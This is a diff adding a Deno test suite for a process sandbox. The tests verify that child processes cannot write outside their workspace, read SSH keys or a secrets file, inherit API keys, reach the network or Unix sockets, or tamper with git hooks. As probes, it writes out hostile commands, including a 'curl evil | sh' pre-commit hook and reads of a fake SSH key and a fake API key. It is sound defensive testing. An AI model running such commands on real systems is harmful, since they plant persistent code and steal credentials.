@@ -1,0 +1,248 @@
+// What a sandboxed child can and cannot reach, checked on the host side.
+import assert from "node:assert/strict";
+import { join } from "node:path";
+import { createPolicy, type SandboxPolicy, spawnSandboxed } from "../../lib/sandbox/mod.ts";
+import { collect, exists, visibleTempDir } from "./_helpers.ts";
+
+interface Layout {
+  base: string;
+  root: string;
+  ws: string;
+  home: string;
+  outside: string;
+  secret: string;
+}
+
+/** A data root with a temp workspace inside it (as penguin creates them), a fake HOME, and a dir outside both. */
+async function layout(): Promise<Layout> {
+  const base = await visibleTempDir();
+  const root = join(base, "root");
+  const ws = join(root, "proj", "agents", "agent", "workspaces", "tmp-0a1b2c3d");
+  const home = join(base, "home");
+  const outside = join(base, "outside");
+  await Deno.mkdir(ws, { recursive: true });
+  await Deno.mkdir(join(home, ".ssh"), { recursive: true });
+  await Deno.mkdir(outside);
+  const secret = join(root, "proj", ".project_config.toml");
+  await Deno.writeTextFile(secret, 'api_key = "sk-data-root-secret"\n');
+  await Deno.writeTextFile(join(home, ".ssh", "id_rsa"), "-----BEGIN FAKE KEY-----\n");
+  return { base, root, ws, home, outside, secret };
+}
+
+function policyFor(l: Layout, over: Partial<SandboxPolicy> = {}): SandboxPolicy {
+  return {
+    ...createPolicy({
+      workspace: l.ws,
+      dataRoot: l.root,
+      home: l.home,
+      hostEnv: { PATH: Deno.env.get("PATH") ?? "", HOME: l.home },
+    }),
+    ...over,
+  };
+}
+
+async function sh(policy: SandboxPolicy, shell: string, cwd?: string) {
+  return await collect(
+    await spawnSandboxed({ shell, policy, stdin: "null", ...(cwd ? { cwd } : {}) }),
+  );
+}
+
+Deno.test("a sandboxed child writes inside the workspace but not outside it", async () => {
+  const l = await layout();
+  try {
+    const r = await sh(
+      policyFor(l),
+      `echo inside > in.txt; echo outside > ${l.outside}/out.txt; echo home > ${l.home}/h.txt; echo done`,
+    );
+    assert.match(r.out, /done/);
+    assert.equal(await Deno.readTextFile(join(l.ws, "in.txt")), "inside\n");
+    assert.equal(await exists(join(l.outside, "out.txt")), false);
+    assert.equal(await exists(join(l.home, "h.txt")), false);
+  } finally {
+    await Deno.remove(l.base, { recursive: true });
+  }
+});
+
+Deno.test("read-only mode writes nothing, not even in the workspace", async () => {
+  const l = await layout();
+  try {
+    await Deno.writeTextFile(join(l.ws, "existing.txt"), "keep\n");
+    const r = await sh(
+      policyFor(l, { mode: "read-only" }),
+      "cat existing.txt; echo new > new.txt; echo x >> existing.txt; echo tmp > /tmp/t && cat /tmp/t",
+    );
+    assert.match(r.out, /keep/);
+    assert.match(r.out, /tmp/);
+    assert.equal(await exists(join(l.ws, "new.txt")), false);
+    assert.equal(await Deno.readTextFile(join(l.ws, "existing.txt")), "keep\n");
+  } finally {
+    await Deno.remove(l.base, { recursive: true });
+  }
+});
+
+Deno.test("the data root is hidden while the workspace inside it stays usable", async () => {
+  const l = await layout();
+  try {
+    // Control: without the OS sandbox the secret is readable, so the check below means something.
+    const open = await sh(policyFor(l, { mode: "off" }), `cat ${l.secret}`);
+    assert.match(open.out, /sk-data-root-secret/);
+
+    const r = await sh(
+      policyFor(l),
+      `cat ${l.secret} 2>/dev/null; ls -a ${l.root}/proj; echo w > w.txt && echo wrote`,
+    );
+    assert.doesNotMatch(r.out, /sk-data-root-secret/);
+    assert.doesNotMatch(r.out, /\.project_config\.toml/);
+    assert.match(r.out, /wrote/);
+    assert.equal(await Deno.readTextFile(join(l.ws, "w.txt")), "w\n");
+  } finally {
+    await Deno.remove(l.base, { recursive: true });
+  }
+});
+
+Deno.test("~/.ssh is hidden from the child", async () => {
+  const l = await layout();
+  try {
+    const key = join(l.home, ".ssh", "id_rsa");
+    assert.match((await sh(policyFor(l, { mode: "off" }), `cat ${key}`)).out, /FAKE KEY/);
+    const r = await sh(policyFor(l), `cat ${key}; ls -A ${l.home}/.ssh | wc -l`);
+    assert.doesNotMatch(r.out, /FAKE KEY/);
+    assert.match(r.out, /^0$/m);
+    assert.equal(await Deno.readTextFile(key), "-----BEGIN FAKE KEY-----\n");
+  } finally {
+    await Deno.remove(l.base, { recursive: true });
+  }
+});
+
+Deno.test("the child gets no API keys or PENGUIN_* variables, but does get the vault", async () => {
+  const l = await layout();
+  try {
+    const policy = policyFor(l);
+    policy.env = {
+      allow: ["FOO_API_KEY"],
+      vault: { VAULT_TOKEN_X: "from-the-vault" },
+      host: {
+        PATH: Deno.env.get("PATH") ?? "",
+        FOO_API_KEY: "sk-foo",
+        PENGUIN_X: "px",
+        OPENAI_BASE_URL: "http://x",
+      },
+    };
+    for (const mode of ["workspace-write", "off"] as const) {
+      const r = await sh({ ...policy, mode }, "env");
+      assert.doesNotMatch(r.out, /FOO_API_KEY|PENGUIN_X|OPENAI_BASE_URL|sk-foo/, mode);
+      assert.match(r.out, /^VAULT_TOKEN_X=from-the-vault$/m, mode);
+      assert.match(r.out, /^GIT_TERMINAL_PROMPT=0$/m, mode);
+      assert.match(r.out, /^TERM=dumb$/m, mode);
+    }
+  } finally {
+    await Deno.remove(l.base, { recursive: true });
+  }
+});
+
+/**
+ * Whether a child's TCP connect reached a listener on 127.0.0.1. After the
+ * child is done the test connects itself and sends "T"; connections are
+ * accepted in arrival order, so the first accepted one tells who got there
+ * first: "C" from the child, or "T" when the child never arrived.
+ */
+async function childReachesListener(policy: SandboxPolicy): Promise<boolean> {
+  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
+  const port = (listener.addr as Deno.NetAddr).port;
+  try {
+    await sh(policy, `exec 3<>/dev/tcp/127.0.0.1/${port} && printf C >&3`);
+    const own = await Deno.connect({ hostname: "127.0.0.1", port });
+    await own.write(new TextEncoder().encode("T"));
+    const first = await listener.accept();
+    const buf = new Uint8Array(1);
+    const n = await first.read(buf);
+    first.close();
+    own.close();
+    return n === 1 && buf[0] === "C".charCodeAt(0);
+  } finally {
+    listener.close();
+  }
+}
+
+Deno.test("with the network off a connect to a host listener never arrives; with it on, it does", async () => {
+  const l = await layout();
+  try {
+    assert.equal(await childReachesListener(policyFor(l, { network: false })), false);
+    assert.equal(await childReachesListener(policyFor(l, { network: true })), true);
+  } finally {
+    await Deno.remove(l.base, { recursive: true });
+  }
+});
+
+Deno.test(".git/hooks and .git/config cannot be changed from inside the workspace", async () => {
+  const l = await layout();
+  try {
+    await Deno.mkdir(join(l.ws, ".git", "hooks"), { recursive: true });
+    await Deno.writeTextFile(join(l.ws, ".git", "config"), "[core]\n");
+    await sh(
+      policyFor(l),
+      "echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; " +
+        "echo '[core] hooksPath = /tmp' >> .git/config; rm -rf .git/hooks; echo ok > .git/HEAD",
+    );
+    assert.equal(await exists(join(l.ws, ".git", "hooks", "pre-commit")), false);
+    assert.equal(await Deno.readTextFile(join(l.ws, ".git", "config")), "[core]\n");
+    assert.equal(await exists(join(l.ws, ".git", "hooks")), true);
+    // The rest of .git stays writable.
+    assert.equal(await Deno.readTextFile(join(l.ws, ".git", "HEAD")), "ok\n");
+
+    await Deno.remove(join(l.ws, ".git", "hooks"));
+    await sh(policyFor(l), "mkdir -p .git/hooks; echo x > .git/hooks/post-checkout");
+    assert.equal(await exists(join(l.ws, ".git", "hooks", "post-checkout")), false);
+  } finally {
+    await Deno.remove(l.base, { recursive: true });
+  }
+});
+
+Deno.test("a symlink in the workspace does not let the child write outside it", async () => {
+  const l = await layout();
+  try {
+    await Deno.writeTextFile(join(l.outside, "target.txt"), "original\n");
+    await Deno.symlink(join(l.outside, "target.txt"), join(l.ws, "link"));
+    await sh(
+      policyFor(l),
+      "echo overwritten > link; ln ../../../../../../outside/target.txt hard 2>/dev/null; true",
+    );
+    assert.equal(await Deno.readTextFile(join(l.outside, "target.txt")), "original\n");
+    assert.equal(await exists(join(l.ws, "hard")), false);
+  } finally {
+    await Deno.remove(l.base, { recursive: true });
+  }
+});
+
+Deno.test("Unix sockets under /run are unreachable from the sandbox", async () => {
+  const l = await layout();
+  const path = `/run/penguin-test-${crypto.randomUUID().slice(0, 8)}.sock`;
+  let listener: Deno.UnixListener | undefined;
+  try {
+    listener = Deno.listen({ transport: "unix", path });
+  } catch {
+    // /run not writable here: nothing to test.
+  }
+  try {
+    if (!listener) return;
+    const policy = policyFor(l);
+    const probe = `exec 3<>/dev/tcp/127.0.0.1/1 2>/dev/null; ` +
+      `if command -v python3 >/dev/null; then python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); s.send(b"C")' ${path} 2>/dev/null; ` +
+      `else perl -MIO::Socket::UNIX -e '$s=IO::Socket::UNIX->new(Peer=>$ARGV[0]) or exit 1; print $s "C"' ${path}; fi; echo rc=$?`;
+    const r = await sh(policy, probe);
+    assert.doesNotMatch(r.out, /rc=0/);
+    // The first connection the listener sees is the test's own.
+    const own = await Deno.connect({ transport: "unix", path });
+    await own.write(new TextEncoder().encode("T"));
+    const first = await listener.accept();
+    const buf = new Uint8Array(1);
+    await first.read(buf);
+    first.close();
+    own.close();
+    assert.equal(String.fromCharCode(buf[0]!), "T");
+  } finally {
+    listener?.close();
+    await Deno.remove(path).catch(() => {});
+    await Deno.remove(l.base, { recursive: true });
+  }
+});
